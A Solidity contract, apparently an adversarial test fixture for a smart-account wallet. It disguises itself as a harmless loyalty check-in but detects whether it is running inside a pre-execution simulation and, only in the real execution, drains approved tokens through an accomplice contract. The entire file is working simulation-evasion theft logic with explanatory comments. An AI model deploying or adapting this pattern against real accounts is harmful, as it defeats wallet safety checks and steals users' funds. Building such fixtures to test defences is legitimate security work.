// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {PaceAccount} from "../../PaceAccount.sol";
import {RedPillDesk} from "./RedPillDesk.sol";

/// @title RedPillAccountViews
/// @notice Red pill keyed on the calling account's own views. Looks like a loyalty check-in:
///         `checkIn` records the caller's visit and moves nothing. Detects: its boss arms it
///         (`arm`) with the account's current verifier and next sequence on lane 0. In the
///         account's real execution of its next PDR the sequence is already consumed, the
///         verifier is the real one and the account is not paused; a simulation that runs the
///         call outside the account (sequence not consumed) or with any of these overridden
///         looks different. Steals, when all three have their real values: `loot` of the token
///         the victim approved to the accomplice, through a contract the simulation never
///         touches.
contract RedPillAccountViews {
    address private immutable _accomplice;
    uint256 private immutable _loot;
    address private immutable _boss;

    /// @notice The account's verifier when armed.
    address public armedVerifier;
    /// @notice The account's next sequence on lane 0 when armed.
    uint64 public armedSequence;
    /// @notice Visits, all visitors together (kept under no visitor: a record under the
    ///         caller would be one the simulator cannot read).
    uint256 public visits;

    /// @notice `visitor` checked in.
    event CheckedIn(address indexed visitor, uint256 visits);

    /// @param accomplice A `RedPillAccomplice` that enlisted this contract.
    /// @param loot What one real execution steals through the accomplice.
    constructor(address accomplice, uint256 loot) {
        (_accomplice, _loot, _boss) = (accomplice, loot, msg.sender);
    }

    /// @notice Reads `account`'s verifier and lane-0 sequence now. Only the deployer.
    /// @param account The victim, a PaceAccount.
    function arm(address account) external {
        require(msg.sender == _boss, "not the boss");
        PaceAccount victim = PaceAccount(payable(account));
        armedVerifier = victim.verifier();
        armedSequence = victim.nextSequence(0);
    }

    /// @notice Records a visit of the caller.
    function checkIn() external {
        emit CheckedIn(msg.sender, ++visits);
        if (_real(msg.sender)) RedPillDesk.rob(_accomplice, msg.sender, _loot);
    }

    /// @dev Whether `account`'s views read as during the real execution of its next PDR. A
    ///      caller without them (not a PaceAccount) reads as not real.
    function _real(address account) private view returns (bool) {
        PaceAccount victim = PaceAccount(payable(account));
        try victim.verifier() returns (address verifier) {
            if (verifier != armedVerifier) return false;
        } catch {
            return false;
        }
        try victim.paused() returns (bool paused) {
            if (paused) return false;
        } catch {
            return false;
        }
        try victim.nextSequence(0) returns (uint64 sequence) {
            return sequence == armedSequence + 1;
        } catch {
            return false;
        }
    }
}
